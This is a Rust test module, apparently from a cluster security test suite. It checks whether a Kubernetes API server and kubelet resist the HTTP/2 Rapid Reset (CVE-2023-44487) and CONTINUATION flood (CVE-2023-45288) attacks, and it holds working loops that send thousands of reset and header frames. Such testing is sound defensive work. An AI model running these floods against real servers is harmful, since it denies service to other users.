//! Frames of HTTP/2 that cost the client nothing.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::{Result, ensure};

use super::{TOLERATED, honest_wait};
use crate::cases::Case;
use crate::client::Client;
use crate::verdict::{Verdict, judge};
use crate::wire::http2::{self, Http2};
use crate::world::World;

pub const RAPID_RESET: Case = Case {
    name: "floods/rapid-reset",
    class: "CVE-2023-44487",
    must_not: "A client that resets each of its requests at once keeps the server from serving others.",
    needs: &[],
    run: rapid_reset,
};

pub const CONTINUATION_FLOOD: Case = Case {
    name: "floods/continuation",
    class: "CVE-2023-45288",
    must_not: "Headers without end are kept in memory or read for ever.",
    needs: &[],
    run: continuation_flood,
};

/// Requests that are reset on one connection, unless the server ends it before.
const RESETS: u32 = 20_000;
/// Frames of 16 KiB.
const FRAMES: usize = 4096;
/// How much memory the headers of one client may take at most.
const MEMORY: u64 = 128 << 20;

/// Both servers of a node, and a path that everybody may ask for.
fn servers(world: &World) -> [(&'static str, SocketAddr, &'static str); 2] {
    [
        ("the API server", world.cluster.api(), "/version"),
        ("the kubelet", world.cluster.kubelet(), "/pods"),
    ]
}

/// A connection that has been answered once. The kubelet speaks HTTP/2 only to those who can.
fn begin(world: &World, address: SocketAddr, path: &str) -> Result<Http2> {
    let identity = world.authority.client("administrator", &["system:masters"])?;
    let mut connection = Http2::begin(Client::with_certificate(address, identity).connect_http2()?)?;
    connection.send(&http2::request(1, path, &[]))?;
    ensure!(
        connection.answered(1)?,
        "an honest request over HTTP/2 was not answered"
    );
    Ok(connection)
}

fn rapid_reset(world: &World) -> Result<Verdict> {
    let mut attempts = Vec::new();
    for (what, address, path) in servers(world) {
        let mut connection = begin(world, address, path)?;
        let mut sent = 0;
        for number in 1..=RESETS {
            let stream = 2 * number + 1;
            let frames = [http2::request(stream, path, &[]), http2::reset(stream)].concat();
            if connection.send(&frames).is_err() {
                break;
            }
            sent = number;
        }
        let waited = honest_wait(world)?;
        connection.socket().set_read_timeout(Some(Duration::from_secs(5)))?;
        let farewell = connection.farewell();
        attempts.push(match (waited < TOLERATED, farewell) {
            (true, Some(farewell)) => {
                Verdict::Blocked(format!("{what}: {sent} resets; {farewell}; others waited {waited:.1?}"))
            }
            (true, None) => Verdict::Succeeded(format!("{what} takes {sent} resets on one connection")),
            (false, _) => Verdict::Succeeded(format!("others waited {waited:.1?} for {what}")),
        });
    }
    judge(&attempts)
}

fn continuation_flood(world: &World) -> Result<Verdict> {
    let mut attempts = Vec::new();
    for (what, address, path) in servers(world) {
        let mut connection = begin(world, address, path)?;
        let before = world.cluster.peak_memory()?;
        let mut sent = 0;
        for frame in http2::endless_headers(3).take(FRAMES) {
            if connection.send(&frame).is_err() {
                break;
            }
            sent += 1;
        }
        let grown = world.cluster.peak_memory()?.saturating_sub(before);
        let waited = honest_wait(world)?;
        attempts.push(match (sent < FRAMES, grown < MEMORY && waited < TOLERATED) {
            (true, true) => Verdict::Blocked(format!("{what} ended the connection after {sent} frames")),
            (false, _) => Verdict::Succeeded(format!("{what} reads headers of {} MB", (FRAMES * 16) >> 10)),
            (true, false) => Verdict::Succeeded(format!(
                "{what} took {} MB, and others waited {waited:.1?}",
                grown >> 20
            )),
        });
    }
    judge(&attempts)
}
